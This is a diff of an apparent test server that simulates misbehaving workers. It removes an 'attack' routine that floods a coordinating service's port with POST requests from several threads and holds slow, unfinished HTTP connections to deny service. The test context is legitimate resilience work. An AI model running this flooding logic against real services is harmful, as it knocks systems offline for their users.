@@ -9,7 +9,7 @@ import threading
 import time
 import urllib.request
 from pathlib import Path
-from urllib.parse import unquote, urlsplit
+from urllib.parse import unquote
 
 COUNTS: dict[str, int] = {}
 SEEN: list[str] = []
@@ -43,39 +43,6 @@ def forever(connection: socket.socket, chunk: bytes) -> None:
     """Send the same for ever."""
     while True:
         connection.sendall(chunk)
-
-
-def attack(url: str, seconds: float) -> dict[str, int]:
-    """Do to the worker's port what may keep others from it; tell how often the answer was what."""
-    parts = urlsplit(url)
-    place, until = (parts.hostname or "", parts.port or 0), time.monotonic() + seconds
-    told: dict[str, int] = {}
-
-    def flood() -> None:
-        while time.monotonic() < until:
-            try:
-                with socket.create_connection(place, timeout=1) as connection:
-                    connection.sendall(b"POST /guessed HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\n1")
-                    status = connection.recv(64)[9:12].decode()
-            except OSError:
-                status = "refused"
-            told[status] = told.get(status, 0) + 1
-
-    floods = [threading.Thread(target=flood) for _ in range(4)]
-    for each in floods:
-        each.start()
-    held: list[socket.socket] = []
-    while time.monotonic() < until:
-        try:
-            held.append(socket.create_connection(place, timeout=1))
-            held[-1].sendall(b"POST /slow HTTP/1.1\r\nX-Slow: ")
-        except OSError:
-            pass
-    for each in floods:
-        each.join()
-    for connection in held:
-        connection.close()
-    return told | {"held": len(held)}
 
 
 def behave(  # noqa: C901, PLR0912 one case for each way to misbehave
@@ -113,9 +80,6 @@ def behave(  # noqa: C901, PLR0912 one case for each way to misbehave
             )
             with urllib.request.urlopen(order, timeout=10) as told:
                 connection.sendall(answer(str(told.status).encode()))
-        case ["attack", seconds]:
-            done = attack(headers["x-homing-progress-url"], float(seconds))
-            connection.sendall(answer(json.dumps(done).encode()))
         case ["seen"]:
             connection.sendall(answer(json.dumps(SEEN).encode()))
         case ["eat", megabytes]:
